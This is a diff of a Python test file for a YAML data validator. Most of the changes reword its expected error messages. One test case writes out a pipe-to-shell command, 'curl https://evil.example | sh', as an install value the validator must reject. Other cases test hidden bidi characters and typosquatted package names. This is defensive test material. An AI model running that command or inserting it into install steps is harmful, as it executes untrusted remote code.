@@ -265,47 +265,45 @@ WRONG = {
         'version: "3.10", date: 2099-01-01',
         [
             "14:38: frameworks.right.checked.date: is in the future, today is"
-            f" {date.today()}; write the day on which it was"
+            f" {date.today()}; write the real date"
         ],
     ),
     "day before all frameworks": (
         'version: "3.10", date: 2026-11-21',
         'version: "3.10", date: 0001-01-01',
-        [
-            "14:38: frameworks.right.checked.date: is before 2000-01-01; write the day on which it"
-            " was"
-        ],
+        ["14:38: frameworks.right.checked.date: is before 2000-01-01; write the real date"],
     ),
     "releases that do not follow": (
         "answer: A table",
         'answer: A table\n            since: "999.0"\n            until: "2.0"\n'
         '            checked: {version: "4.0", date: 2026-11-20}',
         [
-            "35:13: ROW.answers.right.since: is newer than the release that is described, 4.0",
+            "35:13: ROW.answers.right.since: is newer than the release that was checked, 4.0",
             "36:13: ROW.answers.right.until: must be newer than since, 999.0",
-            "37:13: ROW.answers.right.checked: is before the column's, 2026-11-21; remove it",
-            "37:23: ROW.answers.right.checked.version: is newer than the column's, 3.10; read the"
-            " column again",
+            "37:13: ROW.answers.right.checked: is before the last check of the framework,"
+            " 2026-11-21; remove it",
+            "37:23: ROW.answers.right.checked.version: is newer than the framework's release,"
+            " 3.10; check the framework again",
         ],
     ),
     "two frameworks of one name": (
         "name: Right",
         "name: left",
-        ["11:5: frameworks.right.name: left has the same name; tell them apart"],
+        ["11:5: frameworks.right.name: left has the same name; write another one"],
     ),
     "row called like a part of the page": (
         "      routing:\n",
         "      removed: {title: Gone, asks: Why?, answers: {left: {level: unknown, note: A},"
         " right: {level: unknown, note: A}}}\n      routing:\n",
         [
-            "23:7: sections.requests.rows.removed: the page uses this word for a part of its"
-            " own; choose another key"
+            "23:7: sections.requests.rows.removed: the page uses this key for one of its parts;"
+            " choose another key"
         ],
     ),
     "install of another package": (
         "install: pip install right",
         "install: pip install rihgt gunicorn",
-        ["15:5: frameworks.right.install: must name right, too"],
+        ["15:5: frameworks.right.install: must also install right"],
     ),
     "install of a name with a sign that nobody sees": (
         "install: pip install right",
@@ -318,7 +316,7 @@ WRONG = {
     "install that runs more": (
         "install: pip install right",
         "install: curl https://evil.example | sh",
-        ["15:14: frameworks.right.install: must begin with pip install and name what it installs"],
+        ["15:14: frameworks.right.install: must be pip install and the names of packages"],
     ),
     "install from elsewhere": (
         "install: pip install right",
@@ -331,7 +329,7 @@ WRONG = {
     "more sources than anybody reads": (
         "              - https://right.example/#routes",
         "\n".join(f"              - https://right.example/#routes-{n}" for n in range(21)),
-        ["36:15: ROW.answers.right.sources: has 21 entries, the page bears 20; remove some"],
+        ["36:15: ROW.answers.right.sources: has 21 entries, at most 20 are allowed; remove some"],
     ),
     "key of a row under removed": (
         "    rows:",
@@ -438,20 +436,26 @@ WRONG = {
     "no-break space in the indentation": (
         "            answer: A table",
         "\xa0\xa0          answer: A table",
-        ["34:1: this line begins with a no-break space (U+00A0), as web pages have; type spaces"],
+        [
+            "34:1: this line begins with a no-break space (U+00A0), often copied from a web page;"
+            " type spaces"
+        ],
     ),
     "ideographic space behind a key": (
         "answer: A table",
         "answer:\u3000A table",
         [
-            "34:20: the text begins with an ideographic space (U+3000), as web pages have; type"
-            " spaces"
+            "34:20: the text begins with an ideographic space (U+3000), often copied from a web"
+            " page; type spaces"
         ],
     ),
     "no-break space behind a hyphen": (
         "- https://right.example/#routes",
         "-\xa0https://right.example/#routes",
-        ["36:16: the text begins with a no-break space (U+00A0), as web pages have; type spaces"],
+        [
+            "36:16: the text begins with a no-break space (U+00A0), often copied from a web page;"
+            " type spaces"
+        ],
     ),
     "quotes closed by those of another text": (
         "name: Right",
@@ -530,7 +534,7 @@ WRONG = {
     "no space behind a colon": (
         "title: Routing",
         "title:Routing",
-        ["24:15: write a space behind the colon"],
+        ["24:15: write a space after the colon"],
     ),
     "another colon": (
         "title: Routing",
@@ -540,7 +544,7 @@ WRONG = {
     "quotes of a text processor": (
         "answer: A table",
         "answer: \u201cso: a table\u201d",
-        ['34:21: \u201c is no quote of YAML; type "'],
+        ['34:21: “ is not a straight quote; type "'],
     ),
     "no colon": (
         "          left:\n            level",
@@ -591,23 +595,22 @@ WRONG = {
     "level on one side only": (
         "            level: third-party\n",
         "",
-        ["32:11: ROW.answers.right: has no level, another answer has; give one to all or to none"],
+        [
+            "32:11: ROW.answers.right: has no level, but another answer has; give every answer a"
+            " level, or none"
+        ],
     ),
     "missing answer": (
         "          right:\n            level: third-party\n            answer: A table"
         "\n            sources:\n              - https://right.example/#routes\n",
         "",
-        [
-            "27:9: ROW.answers.right: missing; write an answer, if only with the level unknown "
-            "and a note"
-        ],
+        ["27:9: ROW.answers.right: missing; write an answer, or the level unknown and a note"],
     ),
     "answer of no framework": (
         "          right:\n            level",
         "          rihgt:\n            level",
         [
-            "27:9: ROW.answers.right: missing; write an answer, if only with the level unknown "
-            "and a note",
+            "27:9: ROW.answers.right: missing; write an answer, or the level unknown and a note",
             '32:11: ROW.answers.rihgt: there is no framework rihgt; did you mean "right"?',
         ],
     ),
@@ -670,7 +673,7 @@ WRONG = {
         "tasks: [hello]",
         f"tasks: [{'x' * 500_000}]",
         [
-            "26:17: ROW.tasks[0]: has 500000 characters, the page bears 40; shorten it",
+            "26:17: ROW.tasks[0]: has 500000 characters, at most 40 are allowed; shorten it",
         ],
     ),
     "level as long as a book": (
@@ -723,7 +726,10 @@ WRONG = {
     "too long": (
         "answer: A table",
         "answer: " + "x" * 161,
-        ["34:21: ROW.answers.right.answer: has 161 characters, the page bears 160; shorten it"],
+        [
+            "34:21: ROW.answers.right.answer: has 161 characters, at most 160 are allowed; shorten"
+            " it"
+        ],
     ),
     "key that is no address": (
         "      routing:",
@@ -750,20 +756,20 @@ WRONG = {
         "  more:\n    title: More\n    summary: More of it.\n    rows:\n      routing: "
         "{title: Again, asks: Why?, answers: {}}\ntasks:\n  hello:",
         [
-            '41:7: sections.more.rows.routing: section "requests" has this key too; a row '
-            "has one address",
-            "41:43: sections.more.rows.routing.answers.left: missing; write an answer, if "
-            "only with the level unknown and a note",
-            "41:43: sections.more.rows.routing.answers.right: missing; write an answer, if "
-            "only with the level unknown and a note",
+            '41:7: sections.more.rows.routing: section "requests" already has a row with this'
+            " key; choose another key",
+            "41:43: sections.more.rows.routing.answers.left: missing; write an answer, or the"
+            " level unknown and a note",
+            "41:43: sections.more.rows.routing.answers.right: missing; write an answer, or the"
+            " level unknown and a note",
         ],
     ),
     "port the tests cannot move": (
         "right run --port 8000",
         "right run",
         [
-            "16:14: frameworks.right.develop: must name the port 8000 once; the tests put a "
-            "free port in its place"
+            "16:14: frameworks.right.develop: must name the port 8000 once; the tests replace"
+            " it with a free port"
         ],
     ),
     "reason for no framework": (
@@ -774,7 +780,10 @@ WRONG = {
     "reason and program": (
         "summary: Says hello.",
         "summary: Says hello.\n    absent: {right: No way.}",
-        ["41:14: tasks.hello.absent.right: snippets/hello/right/ exists; remove one"],
+        [
+            "41:14: tasks.hello.absent.right: snippets/hello/right/ exists; remove the folder, or"
+            " this line"
+        ],
     ),
     "alias": (
         "answer: A table",
@@ -811,7 +820,7 @@ WRONG = {
         "answer: A table",
         "answer: A table\n            <<: {note: Merged}",
         [
-            "35:13: ROW.answers.right.<<: merge keys are not allowed; write it out",
+            "35:13: ROW.answers.right.<<: merge keys are not allowed; write the keys out",
             "35:13: ROW.answers.right.<<: unknown key; known: level, answer, fact, measure, note,"
             " since, until, checked, proof, sources; or is its block indented wrongly?",
         ],
@@ -835,8 +844,8 @@ WRONG = {
         "level: third-party",
         "level: [third-party]",
         [
-            "33:20: ROW.answers.right.level: must be one of: built-in, official-add-on, third "
-            "party, own-code, not-possible, not-applicable, unknown"
+            "33:20: ROW.answers.right.level: must be one of: built-in, official-add-on, third-party,"
+            " own-code, not-possible, not-applicable, unknown"
         ],
     ),
     "colon without a space": (
@@ -956,7 +965,10 @@ WRONG = {
     "address too long": (
         "https://right.example/#routes",
         f"https://right.example/#{'x' * 300}",
-        ["36:17: ROW.answers.right.sources[0]: has 323 characters, the page bears 300; shorten it"],
+        [
+            "36:17: ROW.answers.right.sources[0]: has 323 characters, at most 300 are allowed;"
+            " shorten it"
+        ],
     ),
     "file at a branch": (
         "https://right.example/#routes",
@@ -981,7 +993,7 @@ WRONG = {
         "      rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr:",
         [
             "23:7: sections.requests.rows.rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr: has 41"
-            " characters, the page bears 40; shorten it"
+            " characters, at most 40 are allowed; shorten it"
         ],
     ),
     "task without its contract": (
@@ -1046,7 +1058,7 @@ WRONG = {
         "fact: licence\n            measure: memory",
         [
             "32:11: ROW.answers.right: needs exactly one of answer, fact or measure",
-            "data/measurements.json:1:1: is missing; restore it, or write it: make bench",
+            "data/measurements.json:1:1: is missing; restore it, or run make bench",
         ],
     ),
     "neither answer nor fact": (
@@ -1076,7 +1088,7 @@ WRONG = {
         "tasks: [hello]\n        answers:\n          left:\n            level: built-in\n",
         "answers:\n          left:\n            level: built-in\n"
         "            proof: [hello::test_greets]\n",
-        ["29:21: ROW.answers.left.proof[0]: add hello to the tasks of the row, too"],
+        ["29:21: ROW.answers.left.proof[0]: add hello to the tasks of this row"],
     ),
     "proof that is no test": (
         "answer: A table",
@@ -1169,8 +1181,8 @@ def test_all_mistakes_come_in_one_run(example: Path) -> None:
 @pytest.mark.parametrize(
     ("name", "said"),
     [
-        ("docs/requests.md", "19:3: sections.requests: its page is made from the data; rename or"),
-        ("docs/code/hello.md", "38:3: tasks.hello: its page is made from the data; rename or"),
+        ("docs/requests.md", "19:3: sections.requests: its page is generated; rename or"),
+        ("docs/code/hello.md", "38:3: tasks.hello: its page is generated; rename or"),
         ("docs/requests/a.md", "19:3: sections.requests: there is a folder docs/requests; choose"),
     ],
 )
@@ -1192,7 +1204,8 @@ def test_all_that_does_not_fit_comes_in_one_run(example: Path) -> None:
     )
     assert mistakes(example, wrong) == [
         '26:17: ROW.tasks[0]: there is no task hallo; did you mean "hello"?',
-        "28:11: ROW.answers.left: has no level, another answer has; give one to all or to none",
+        "28:11: ROW.answers.left: has no level, but another answer has; give every answer a"
+        " level, or none",
         '36:1: tasks: snippets/hullo/ is a folder that no task names; did you mean "hello"?',
         "37:3: tasks.hello: snippets/hello/left/app.py is missing; add the file",
         "data/dictionary.yaml:5:5: entries.greeting.row: there is no row ruoting;"
@@ -1203,8 +1216,8 @@ def test_all_that_does_not_fit_comes_in_one_run(example: Path) -> None:
 @pytest.mark.parametrize(
     ("content", "said"),
     {
-        "nothing": (b"", ["1:1: the file is empty; restore what it held"]),
-        "only a comment": (b"# soon\n", ["1:1: the file is empty; restore what it held"]),
+        "nothing": (b"", ["1:1: the file is empty; restore its content"]),
+        "only a comment": (b"# soon\n", ["1:1: the file is empty; restore its content"]),
         "Latin-1": (b"a: 1\nb: caf\xe9\n", ["2:7: is not UTF-8 here; save the file as UTF-8"]),
         "UTF-16": (GOOD.encode("utf-16"), ["1:1: is not UTF-8 here; save the file as UTF-8"]),
         "UTF-16 without a mark": (
@@ -1231,9 +1244,12 @@ def test_all_that_does_not_fit_comes_in_one_run(example: Path) -> None:
         ),
         "too many values": (
             b"a: [" + b"b," * 400_000 + b"]",
-            ["1:799999: has more than 400000 keys and values; that is too many to read"],
+            ["1:799999: has more than 400000 keys and values; make it smaller"],
         ),
-        "too large": (b"#" * (2**24 + 1), ["1:1: has 16777217 bytes; at most 16777216 are read"]),
+        "too large": (
+            b"#" * (2**24 + 1),
+            ["1:1: has 16777217 bytes; at most 16777216 are allowed"],
+        ),
         "too deep": (b"a: " + b"[" * 40_000, ["1:23: is nested more than 20 levels deep"]),
     }.values(),
 )
@@ -1247,7 +1263,7 @@ def test_unreadable_file_is_refused(example: Path, content: bytes, said: list[st
 def test_of_very_many_mistakes_the_first_are_said(example: Path, content: str) -> None:
     said = mistakes(example, content)
     assert len(said) == 501
-    assert "1:1: has more than 500 mistakes; mend these first" in said[:2]
+    assert "1:1: has more than 500 mistakes; fix these first" in said[:2]
 
 
 def test_of_very_many_known_names_the_first_are_said() -> None:
@@ -1309,14 +1325,12 @@ def test_what_an_exchange_hides_is_refused(example: Path) -> None:
     exchanges.write_text(exchanges.read_text().replace("It greets", "It \\u2067greets", 1))
     assert mistakes(example, GOOD) == [
         "snippets/hello/exchanges.json:1:165: exchanges[0].shows.left: character U+2067 is not"
-        " allowed, not as an escape either; restore the file, or write it again: make record"
-        " TASK=hello",
+        " allowed, not as an escape either; restore the file, or run make record TASK=hello",
     ]
 
 
 NOT_SHOWN = (
-    "1:1: is not shown on the page, so the program may not have it; show it as .css, .html, .py,"
-    " .svg"
+    "1:1: is not shown on the page, so no program may have it; allowed: .css, .html, .py, .svg"
 )
 PROGRAMS: dict[str, tuple[str, str | bytes, str]] = {
     "a sign that reorders": ("left/app.py", "# \u202e\na = 1\n", "1:3: character U+202E is not"),
@@ -1369,12 +1383,11 @@ PROGRAMS: dict[str, tuple[str, str | bytes, str]] = {
     ),
     "too many lines": (
         *("left/app.py", "a = 1\n" * 201),
-        "201:1: has 201 lines, at most 200 are read; a program has about 30 lines; show less",
+        "201:1: has 201 lines, at most 200 are allowed; a program has about 30 lines",
     ),
     "a line without an end": (
         *("left/a.svg", "a" * 20_001),
-        "1:1: has 20001 characters, at most 20000 are read; a program has about 30 lines; show"
-        " less",
+        "1:1: has 20001 characters, at most 20000 are allowed; a program has about 30 lines",
     ),
     "a text that is read": ("left/schema.txt", "a", NOT_SHOWN),
     "compiled Python": ("left/more.pyc", b"a", NOT_SHOWN),
@@ -1386,7 +1399,7 @@ PROGRAMS: dict[str, tuple[str, str | bytes, str]] = {
     "a suffix in capitals": ("left/more.PY", "a = 1", NOT_SHOWN),
     "a package that wins over app.py": (
         *("left/app/more.py", "a = 1"),
-        "1:1: lies in a folder app, which would hide app.py; rename the folder",
+        "1:1: is in a folder app, which would hide app.py; rename the folder",
     ),
     "a package": ("left/__init__.py", "", "1:1: would hide the framework of that name; remove it"),
     "a package around all": (
@@ -1408,11 +1421,11 @@ PROGRAMS: dict[str, tuple[str, str | bytes, str]] = {
     "the name of a standard module": ("left/json.py", "a = 1", "1:1: would hide the module json;"),
     "a module beside the contract": (
         *("more.py", "a = 1"),
-        "1:1: may not lie here; only test_contract.py and exchanges.json may",
+        "1:1: is not allowed here; allowed: test_contract.py, exchanges.json",
     ),
     "a module beside the tasks": (
         *("../more.py", "a = 1"),
-        "1:1: may not lie here; only conftest.py may",
+        "1:1: is not allowed here; allowed: conftest.py",
     ),
     "a name that says more": (
         *('left/x" title="y.css', ""),
@@ -1474,7 +1487,9 @@ def test_a_link_is_refused(example: Path, link: str, target: str, with_git: bool
     path.parent.mkdir(exist_ok=True)
     path.unlink(missing_ok=True)
     path.symlink_to(target)
-    assert f"{link}:1:1: is a link; put the file itself in its place" in mistakes(example, GOOD)
+    assert f"{link}:1:1: is a symbolic link; replace it with the file itself" in mistakes(
+        example, GOOD
+    )
 
 
 def test_compiled_files_are_refused_where_git_tracks_them(example: Path) -> None:
@@ -1492,7 +1507,7 @@ def test_compiled_files_are_refused_where_git_tracks_them(example: Path) -> None
 
 
 RECORDED = "snippets/hello/exchanges.json"
-ANEW = "write it again: make record TASK=hello"
+ANEW = "run make record TASK=hello"
 AGAIN = f"restore the file, or {ANEW}"
 HALF: dict[str, Any] = json.loads(json.dumps(EXCHANGE))
 for part in ("tests", "shows", "responses"):
@@ -1504,7 +1519,7 @@ for part in ("tests", "shows", "responses"):
     {
         "missing": (
             None,
-            f"snippets/hello/test_contract.py:1:1: {RECORDED} is missing; write it: make record"
+            f"snippets/hello/test_contract.py:1:1: {RECORDED} is missing; run make record"
             " TASK=hello",
         ),
         "a conflict": (
@@ -1524,10 +1539,10 @@ for part in ("tests", "shows", "responses"):
             f"{RECORDED}:1:15: exchanges: must be a valid array; {AGAIN}",
         ),
         "nested": ("[" * 100_000, f"{RECORDED}:1:1: is nested more than 20 levels deep; {AGAIN}"),
-        "none": ('{"exchanges": []}', f"{RECORDED}:1:1: holds no test of left and right; {ANEW}"),
+        "none": ('{"exchanges": []}', f"{RECORDED}:1:1: has no test of left and right; {ANEW}"),
         "one of two": (
             json.dumps({"exchanges": [HALF]}),
-            f"{RECORDED}:1:1: holds no test of right; {ANEW}",
+            f"{RECORDED}:1:1: has no test of right; {ANEW}",
         ),
     }.values(),
 )
@@ -1593,7 +1608,7 @@ def test_exchanges_that_nobody_recorded_are_refused(
     first, *_ = mistakes(example, GOOD)
     assert first.startswith("snippets/hello/exchanges.json:1:")
     assert f": exchanges[0]{said}" in first
-    assert first.endswith("; restore the file, or write it again: make record TASK=hello")
+    assert first.endswith("; restore the file, or run make record TASK=hello")
 
 
 @pytest.mark.parametrize(
@@ -1603,7 +1618,7 @@ def test_exchanges_that_nobody_recorded_are_refused(
         '{"exchanges": 3}': "1:15: exchanges: must be a valid array",
         '{"exchanges": [null]}': "1:16: exchanges[0]: must be an object",
         "[" * 100_000: "1:1: is nested more than 20 levels deep",
-        '{"exchanges": [], "exchanges": []}': "1:32: exchanges: the same key stands here twice",
+        '{"exchanges": [], "exchanges": []}': "1:32: exchanges: the same key is here twice",
     }.items(),
 )
 def test_a_broken_record_is_named(example: Path, content: str, said: str) -> None:
@@ -1620,5 +1635,5 @@ def test_facts_that_are_missing_or_of_another_release_are_refused(example: Path)
     ]
     facts.unlink()
     assert mistakes(example, GOOD.replace("answer: A table", "fact: licence")) == [
-        "data/facts.json:1:1: is missing; restore it, or write it: make record"
+        "data/facts.json:1:1: is missing; restore it, or run make record"
     ]
